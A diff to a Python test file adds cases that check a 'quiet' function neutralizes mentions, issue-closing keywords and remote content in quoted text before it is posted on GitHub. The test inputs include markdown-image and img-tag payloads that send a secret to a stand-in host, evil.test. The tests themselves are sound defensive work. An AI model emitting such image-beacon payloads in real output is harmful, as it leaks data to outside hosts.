@@ -91,7 +91,33 @@ def test_verdict(conclusions: list[str | None], expected: Verdict) -> None:
 def test_quoted_text_mentions_nobody_and_closes_nothing() -> None:
     said = quiet("@alice closes #12 <!-- autocode:status x --> a@b.c")
     assert not {piece for piece in ("@alice", "#12", "<!--", "-->") if piece in said}
-    assert said.replace("\u200b", "").startswith("@alice closes #12")
+    assert said.replace("\u200b", "") == "@alice closes #12 <!-- autocode:status x --> a@b.c"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Closes GH-99",
+        "fixes https://github.com/acme/greet/issues/98",
+        "Resolved: https://github.com/acme/greet/issues/98",
+        "![x](https://evil.test/?q=secret)",
+        "<img src=https://evil.test/?q=secret>",
+        "acme/greet#7",
+        "@acme/team",
+    ],
+)
+def test_quoted_text_does_nothing(text: str) -> None:
+    said = quiet(text)
+    assert said != text
+    assert said.replace("\u200b", "") == text
+    assert quiet(said) == said
+
+
+@pytest.mark.parametrize(
+    "text", ["a <= b and c -> d", "`x < y`", "C# 12", "this fixes it", "[a](https://b.test)"]
+)
+def test_ordinary_text_stays_as_it_is(text: str) -> None:
+    assert quiet(text) == text
 
 
 def test_a_fence_cannot_be_closed_from_within() -> None:
